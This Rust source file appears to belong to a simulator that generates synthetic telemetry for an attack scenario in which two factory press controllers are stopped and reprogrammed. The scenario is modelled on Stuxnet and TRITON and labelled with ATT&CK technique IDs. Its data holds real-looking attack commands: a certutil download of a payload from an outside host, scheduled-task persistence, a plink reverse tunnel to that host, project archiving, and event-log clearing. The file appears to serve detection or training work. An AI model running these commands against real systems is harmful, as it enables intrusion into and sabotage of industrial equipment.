//! Controllers of a factory get another program.
//!
//! After what is public about Stuxnet (2010) and TRITON (2017): from a host that administers others over the jump host to the engineering
//! workstation, whose own software is used; blocks are read first, then the controllers are stopped, loaded and started again.

use super::{CMD, POWERSHELL, Says, Script, Tale};
use crate::clock::{MINUTE, Moment, SECOND};
use crate::plant::Asset;
use crate::plant::places::{ADM01, EWS01, FACTORY, FACTORY_PRESS1, FACTORY_PRESS2, JUMP01};
use crate::sensors::{Launch, Point};
use crate::tape::Mark;

pub(super) const SCRIPT: Script = Script {
    name: "reprogramming",
    title: "Two press controllers are stopped, loaded with other logic and started again",
    plant: &FACTORY,
    end: Moment::local(2, 23, 0),
    play,
};

const ADMIN: &str = "mnolte";
const ENGINEER: &str = "kmertens";
const OUTSIDE: &str = "203.0.113.90";
const STEP7: &str = r"C:\Program Files\Siemens\Automation\Portal V18\Bin\Siemens.Automation.Portal.exe";
const BLOCKS: [Point; 3] = [
    Point { kind: "Organization Block", number: 1 },
    Point { kind: "Organization Block", number: 35 },
    Point { kind: "Data Block", number: 890 },
];

fn play(tale: &mut Tale<'_>) {
    takes_administrator(tale);
    goes_to_jump_host(tale);
    digs_tunnel(tale);
    goes_to_station(tale);
    packs_projects(tale);
    reads_blocks(tale);
    loads_blocks(tale);
    clears(tale);
}

fn takes_administrator(tale: &mut Tale<'_>) {
    tale.step(
        "persistence",
        "a program is fetched with certutil to the administrator's workstation, and a task keeps it",
        &["T1105", "T1053.005"],
        "account:mnolte asset:adm01 address:203.0.113.90",
    );
    let at = tale.before_end(210);
    let fetch = Launch {
        account: ADMIN,
        parent: CMD,
        image: r"C:\Windows\System32\certutil.exe",
        command: r"certutil.exe -urlcache -f http://203.0.113.90/s.txt C:\Users\Public\sync.exe",
    };
    tale.command(at, &ADM01, fetch);
    let wire = tale.pen.wire(ADM01.ip, OUTSIDE, 80);
    let event = tale.pen.conn(at.plus(SECOND), &wire, "http", 2);
    tale.quiet(event);
    let task = Launch {
        account: ADMIN,
        parent: CMD,
        image: r"C:\Windows\System32\schtasks.exe",
        command: r"schtasks /create /tn Sync /sc minute /mo 20 /tr C:\Users\Public\sync.exe",
    };
    tale.command(at.plus(2 * MINUTE), &ADM01, task);
    let event = tale.pen.registers(at.plus(2 * MINUTE + SECOND), &ADM01, ADMIN, r"\Sync", r"C:\Users\Public\sync.exe");
    tale.seen(event);
}

fn goes_to_jump_host(tale: &mut Tale<'_>) {
    tale.step(
        "lateral-movement",
        "with the administrator's account to the jump host, in the evening",
        &["T1021.001", "T0886"],
        "account:mnolte asset:adm01 asset:jump01",
    );
    let at = tale.before_end(165);
    let session = tale.pen.desktop(at, ADM01.ip, &JUMP01, ADMIN, 150);
    let marks = tale.session(session, Says::Something, Says::Nothing);
    tale.hop("asset:adm01", "asset:jump01", "remote_session", Some(("remote-access", false)), marks);
}

fn digs_tunnel(tale: &mut Tale<'_>) {
    tale.step(
        "command-and-control",
        "a tunnel from the jump host to the outside carries the desktop of the station",
        &["T1572", "T1021.004"],
        "account:mnolte asset:jump01 address:203.0.113.90",
    );
    let at = tale.before_end(150);
    let plink = Launch {
        account: ADMIN,
        parent: CMD,
        image: r"C:\Users\Public\plink.exe",
        command: "plink.exe -N -R 3390:10.40.10.20:3389 sync@203.0.113.90",
    };
    tale.command(at, &JUMP01, plink);
    let wire = tale.pen.wire(JUMP01.ip, OUTSIDE, 22);
    let event = tale.pen.conn(at.plus(SECOND), &wire, "ssh", 7_500);
    tale.seen(event);
}

fn goes_to_station(tale: &mut Tale<'_>) {
    tale.step(
        "lateral-movement",
        "with the engineer's account to the engineering workstation",
        &["T1021.001", "T0886", "T0859"],
        "account:kmertens asset:jump01 asset:ews01",
    );
    let at = tale.before_end(130);
    let session = tale.pen.desktop(at, JUMP01.ip, &EWS01, ENGINEER, 115);
    let marks = tale.session(session, Says::Something, Says::Nothing);
    tale.hop("asset:jump01", "asset:ews01", "remote_session", Some(("engineering-access", false)), marks);
}

fn packs_projects(tale: &mut Tale<'_>) {
    tale.step(
        "collection",
        "projects of the controllers are packed; the engineering software is started by a script",
        &["T1560.001", "T0893", "T0863"],
        "account:kmertens asset:ews01",
    );
    let at = tale.before_end(110);
    let pack = Launch {
        account: ENGINEER,
        parent: CMD,
        image: r"C:\Program Files\7-Zip\7z.exe",
        command: r"7z.exe a C:\Users\Public\p.7z D:\Projects\Press\Press.ap18",
    };
    tale.command(at, &EWS01, pack);
    let software = Launch { account: ENGINEER, parent: POWERSHELL, image: STEP7, command: STEP7 };
    tale.command(at.plus(12 * MINUTE), &EWS01, software);
}

fn reads_blocks(tale: &mut Tale<'_>) {
    tale.step(
        "collection",
        "both controllers are asked what they are, and their organization blocks are read",
        &["T0888", "T0845", "T0846"],
        "account:kmertens asset:ews01 asset:plc-press1 asset:plc-press2",
    );
    let at = tale.before_end(85);
    let devices: [&'static Asset; 2] = [&FACTORY_PRESS1, &FACTORY_PRESS2];
    for (number, device) in (0..).zip(devices) {
        let at = at.plus(number * 3 * MINUTE);
        let wire = tale.pen.reaches(&EWS01, device);
        let event = tale.pen.identifies(at, &wire, device);
        tale.seen(event);
        for (step, block) in (0..).zip(BLOCKS) {
            let event = tale.pen.fetches(at.plus((10 + step) * SECOND), &wire, device, block);
            tale.seen(event);
        }
    }
}

fn loads_blocks(tale: &mut Tale<'_>) {
    tale.step(
        "impair-process-control",
        "both controllers are stopped, loaded with other blocks and started again",
        &["T0858", "T0843", "T0889", "T0821", "T0831"],
        "account:kmertens asset:ews01 asset:plc-press1 asset:plc-press2",
    );
    let at = tale.before_end(55);
    let first = reprograms(tale, at, &FACTORY_PRESS1);
    tale.hop("asset:ews01", "asset:plc-press1", "operation", Some(("programming", false)), first.clone());
    tale.effect(&FACTORY_PRESS1, "program_download", first);
    let second = reprograms(tale, at.plus(6 * MINUTE), &FACTORY_PRESS2);
    tale.effect(&FACTORY_PRESS2, "program_download", second);
}

fn reprograms(tale: &mut Tale<'_>, at: Moment, device: &'static Asset) -> Vec<Mark> {
    let wire = tale.pen.reaches(&EWS01, device);
    let software = Launch { account: ENGINEER, parent: POWERSHELL, image: STEP7, command: STEP7 };
    let event = tale.pen.connects(at.plus(-SECOND), &EWS01, software, device.ip, 102);
    tale.quiet(event);
    let event = tale.pen.stops(at, &wire, device);
    let mut marks = vec![tale.seen(event)];
    for (number, block) in (0..).zip(BLOCKS) {
        let event = tale.pen.loads(at.plus((5 + number) * SECOND), &wire, device, block);
        marks.push(tale.seen(event));
    }
    let event = tale.pen.starts(at.plus(20 * SECOND), &wire, device);
    marks.push(tale.seen(event));
    let event = tale.pen.conn(at.plus(-SECOND), &wire, "", 30);
    tale.seen(event);
    marks
}

fn clears(tale: &mut Tale<'_>) {
    tale.step(
        "defense-evasion",
        "the logs of the engineering workstation are cleared",
        &["T1070.001", "T0872"],
        "account:kmertens asset:ews01",
    );
    let at = tale.before_end(20);
    let event = tale.pen.clears(at, &EWS01, ENGINEER, "Security");
    tale.seen(event);
    let event = tale.pen.clears(at.plus(2 * SECOND), &EWS01, ENGINEER, "System");
    tale.seen(event);
}
